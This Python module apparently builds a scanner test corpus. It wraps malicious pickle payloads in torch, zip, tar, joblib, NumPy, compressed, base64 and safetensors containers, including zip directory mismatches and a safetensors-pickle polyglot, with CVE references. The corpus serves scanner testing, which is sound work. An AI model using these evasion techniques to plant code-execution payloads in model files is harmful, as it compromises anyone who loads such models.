"""Routes around the pickle: what it is packed in, and archives whose two directories disagree."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle as writer
import struct
import tarfile
import zipfile
import zlib
from typing import TYPE_CHECKING

from build import pickles as p
from build.containers import safetensors, state_dict_pickle, torch_zip, zipped
from pickle_routes import CALL, EVIL, SYSTEM
from route import Route
from stream_routes import AMBIGUOUS, GOOD

if TYPE_CHECKING:
    from collections.abc import Mapping

LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"
TORCH = {"archive/data.pkl": EVIL, "archive/version": b"3\n"}
MAGIC = writer.dumps(0x1950A86A20F9469CFC6C, 2)
"""The first pickle of a checkpoint as torch wrote it before 1.6."""
JUMP = 126
"""Operand of the SHORT_BINBYTES (`C~`) that jump through the header of the polyglot: both are printable."""


def patched(content: bytes, *changes: tuple[bytes, int, bytes]) -> bytes:
    """`content` with bytes replaced at offsets behind the first of each signature."""
    out = bytearray(content)
    for signature, offset, value in changes:
        place = content.index(signature) + offset
        out[place : place + len(value)] = value
    return bytes(out)


def doubled(first: bytes, second: bytes) -> bytes:
    """An archive with two members of one name."""
    twin = zipped({"archive/data.pkl": first, "archive/data.pkx": second})
    return twin.replace(b"data.pkx", b"data.pkl")


def hidden() -> bytes:
    """A member that the central directory does not name."""
    whole = zipped({"archive/data.pkl": EVIL})
    return whole[: whole.index(CENTRAL)] + zipped({"archive/version": b"3\n"})


def legacy(*, magic: bytes = MAGIC, system: bytes = b"}", body: bytes = b"", end: bytes = b"") -> bytes:
    """A checkpoint of five pickles and one storage."""
    state = body or state_dict_pickle([("FloatStorage", "0", 4)])
    out = magic + writer.dumps(1001, 2) + p.proto(2) + system + b"." + state + writer.dumps(["0"], 2)
    return out + struct.pack("<q", 4) + bytes(16) + end


def tarred(members: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def wrapped(dtype: str, raw: bytes, count: int = 2) -> bytes:
    """An array as joblib writes it: the opcodes of its wrapper, then raw bytes."""
    state = p.text("subclass") + p.global_("numpy", "ndarray") + p.text("shape") + b"K" + bytes([count]) + b"\x85"
    state += p.text("order") + p.text("C") + p.text("allow_mmap") + b"\x88"
    state += p.text("dtype") + p.call("numpy", "dtype", p.text(dtype), b"\x89", b"\x88")
    return p.global_("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + state + b"ub" + raw


def npy(descr: str, payload: bytes, shape: str = "(1,)") -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def polyglot() -> bytes:
    """A valid safetensors file that is a pickle too.

    The header length 0x6042 is BINBYTES of 0x60 bytes: it leads into a text of the metadata. There `C~` jumps on, 128
    bytes at a time, the last time out of the header into the tensor, where the program lies.
    """
    length, first = 0x6042, 5 + 0x60 - 8
    text = '{"w":{"dtype":"U8","shape":[300],"data_offsets":[0,300]},"__metadata__":{"n":"'
    text = text.ljust(first, "x") + ("C~".ljust(2 + JUMP, "x")) * (1 + (length - first) // (2 + JUMP))
    text = text[: length - 3] + '"}}'
    landing = first + (2 + JUMP) * (1 + (length - first) // (2 + JUMP)) - length
    return safetensors({}, header=text.encode(), tail=(bytes(landing) + SYSTEM + CALL + b".").ljust(300, b"\0"))


def as_json(value: str) -> bytes:
    return json.dumps({"model_type": "net", "callbacks": [{"on_load": value}]}).encode()


def encoded(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def one(route: str, group: str, about: str, name: str, content: bytes, reference: str = "CWE-502") -> Route:
    return Route(route, group, about, reference, lambda: {name: content})


JOBLIB = p.proto(4) + b"](" + wrapped("f8", bytes(16)) + SYSTEM + CALL + b"e."
ROUTES = [
    one("torch", "container", "a torch checkpoint", "model.pt", zipped(TORCH)),
    one("torch-deflated", "container", "the same, deflated", "model.pt", zipped(TORCH, method=zipfile.ZIP_DEFLATED)),
    one(
        "torch-member",
        "container",
        "a second pickle in it, under no extension that is known",
        "model.pt",
        torch_zip([], {}, extra={"archive/weights.cfg": EVIL}),
        "CVE-2025-1889",
    ),
    one(
        "zip-name",
        "container",
        "another name in front of the member than in the directory",
        "model.pt",
        patched(zipped(TORCH), (LOCAL, 30, b"archive/data.txt")),
        "CVE-2025-1944",
    ),
    one(
        "zip-flag",
        "container",
        "marked as encrypted in one of the two places",
        "model.pt",
        patched(zipped(TORCH), (CENTRAL, 8, b"\x01\x00")),
        "CVE-2025-1945",
    ),
    one(
        "zip-flag-local",
        "container",
        "and in the other one",
        "model.pt",
        patched(zipped(TORCH), (LOCAL, 6, b"\x01\x00")),
        "CVE-2025-1945",
    ),
    one(
        "zip-checksum",
        "container",
        "a wrong checksum in both places, which loaders ignore",
        "model.pt",
        patched(zipped(TORCH), (LOCAL, 14, bytes(4)), (CENTRAL, 16, bytes(4))),
        "CVE-2025-10156",
    ),
    one(
        "zip-method",
        "container",
        "another compression in front of the member",
        "model.pt",
        patched(zipped(TORCH), (LOCAL, 8, b"\x08\x00")),
        AMBIGUOUS,
    ),
    one(
        "zip-twice-first",
        "container",
        "two members of one name, the first one is the attack",
        "model.pt",
        doubled(EVIL, GOOD),
        AMBIGUOUS,
    ),
    one("zip-twice-last", "container", "the same, the last one", "model.pt", doubled(GOOD, EVIL), AMBIGUOUS),
    one("zip-hidden", "container", "a member that only readers from the front find", "model.pt", hidden(), AMBIGUOUS),
    one(
        "zip-prefix",
        "container",
        "a script in front of the archive",
        "model.pt",
        b"#!/bin/sh\necho inert\n" + zipped(TORCH),
        AMBIGUOUS,
    ),
    one(
        "zip-behind-pickle",
        "container",
        "a pickle in front of an honest archive",
        "model.pt",
        EVIL + torch_zip([], {}),
        AMBIGUOUS,
    ),
    one(
        "zip-nested",
        "container",
        "a zip in a zip",
        "model.zip",
        zipped({"model.pt": zipped(TORCH)}, method=zipfile.ZIP_DEFLATED),
    ),
    one(
        "zip-bzip2",
        "container",
        "a member compressed with bzip2",
        "model.zip",
        zipped({"weights.pkl": EVIL}, method=zipfile.ZIP_BZIP2),
    ),
    one(
        "zip-lzma",
        "container",
        "a member compressed with LZMA",
        "model.zip",
        zipped({"weights.pkl": EVIL}, method=zipfile.ZIP_LZMA),
    ),
    one(
        "torch-legacy",
        "container",
        "a checkpoint of the older form",
        "model.pt",
        legacy(body=p.proto(2) + SYSTEM + CALL + b"."),
    ),
    one(
        "torch-legacy-magic",
        "container",
        "its magic number is what a call gives back",
        "model.pt",
        legacy(magic=p.proto(2) + p.call("builtins", "eval", p.text(str(0x1950A86A20F9469CFC6C))) + b"."),
    ),
    one(
        "torch-legacy-system",
        "container",
        "in the dictionary about the system",
        "model.pt",
        legacy(system=SYSTEM + CALL),
    ),
    one("torch-legacy-end", "container", "a sixth pickle behind the storages", "model.pt", legacy(end=EVIL)),
    one(
        "torch-tar",
        "container",
        "a checkpoint of the oldest form, a tar",
        "model.pt",
        tarred({"sys_info": GOOD, "pickle": EVIL, "storages": GOOD, "tensors": GOOD}),
        "CVE-2025-32434",
    ),
    one("joblib", "container", "joblib: behind the raw bytes of an array", "model.joblib", JOBLIB, "modelscan#356"),
    one(
        "joblib-objects",
        "container",
        "joblib: the pickle inside an array of objects",
        "model.joblib",
        p.proto(4) + wrapped("O8", EVIL, 1) + b".",
    ),
    one("joblib-zlib", "container", "joblib, compressed with zlib", "model.joblib", zlib.compress(JOBLIB)),
    one("joblib-gzip", "container", "with gzip", "model.joblib", gzip.compress(JOBLIB, mtime=0)),
    one("joblib-bz2", "container", "with bzip2", "model.joblib", bz2.compress(JOBLIB)),
    one("joblib-xz", "container", "with xz", "model.joblib", lzma.compress(JOBLIB)),
    one("joblib-lzma", "container", "with LZMA", "model.joblib", lzma.compress(JOBLIB, format=lzma.FORMAT_ALONE)),
    one(
        "joblib-old",
        "container",
        "the container of joblib before 0.10",
        "model.z",
        b"ZF" + hex(len(EVIL)).encode().ljust(19) + zlib.compress(EVIL),
    ),
    one("npy", "container", "a NumPy file of objects", "weights.npy", npy("'|O'", EVIL), "CVE-2019-6446"),
    one(
        "npy-deep",
        "container",
        "the objects in a field of a field",
        "weights.npy",
        npy("[('a', '<i4'), ('b', [('c', '|O')])]", EVIL),
        "CVE-2019-6446",
    ),
    one(
        "npz",
        "container",
        "in an npz",
        "weights.npz",
        zipped({"a.npy": npy("'<f4'", bytes(4)), "b.npy": npy("'|O'", EVIL)}),
        "CVE-2019-6446",
    ),
    one(
        "npz-member",
        "container",
        "in a member of it without extension",
        "weights.npz",
        zipped({"a.npy": npy("'<f4'", bytes(4)), "b": npy("'|O'", EVIL)}),
        "CVE-2019-6446",
    ),
    one("gzip", "container", "a pickle in gzip", "model.pkl.gz", gzip.compress(EVIL, mtime=0)),
    one(
        "gzip-second",
        "container",
        "in the second stream of it",
        "model.pkl.gz",
        gzip.compress(GOOD, mtime=0) + gzip.compress(EVIL, mtime=0),
    ),
    one("bz2", "container", "in bzip2", "model.pkl.bz2", bz2.compress(EVIL)),
    one("xz", "container", "in xz", "model.pkl.xz", lzma.compress(EVIL)),
    one("tar", "container", "in a tar", "model.tar", tarred({"README.txt": b"A model.\n", "model.pkl": EVIL})),
    one(
        "tar-gzip",
        "container",
        "in a tar in gzip",
        "model.tar.gz",
        gzip.compress(tarred({"weights/model.bin": EVIL}), mtime=0),
    ),
    one(
        "tar-second",
        "container",
        "in a second tar behind the end of the first",
        "model.tar",
        tarred({"README.txt": b"A model.\n"}) + tarred({"model.pkl": EVIL}),
        AMBIGUOUS,
    ),
    one("base64", "container", "in base64 in a configuration", "config.json", as_json(encoded(EVIL))),
    one("base64-zlib", "container", "the same, compressed", "config.json", as_json(encoded(zlib.compress(EVIL)))),
    one(
        "base64-card",
        "container",
        "in base64 in a model card",
        "README.md",
        b"# Model\n\n" + encoded(EVIL).encode() + b"\n",
    ),
    one(
        "base64-metadata",
        "container",
        "in base64 in the metadata of safetensors",
        "model.safetensors",
        safetensors({"w": bytes(4)}, metadata={"note": encoded(EVIL)}),
    ),
    one(
        "safetensors-tail",
        "container",
        "behind the last tensor",
        "model.safetensors",
        safetensors({"w": bytes(4)}, tail=EVIL),
        AMBIGUOUS,
    ),
    one(
        "safetensors-both",
        "container",
        "valid safetensors and a working pickle at once",
        "model.safetensors",
        polyglot(),
        AMBIGUOUS,
    ),
    one(
        "safetensors-zip",
        "container",
        "a torch checkpoint behind the last tensor",
        "model.safetensors",
        safetensors({"w": bytes(4)}, tail=zipped(TORCH)),
        AMBIGUOUS,
    ),
]
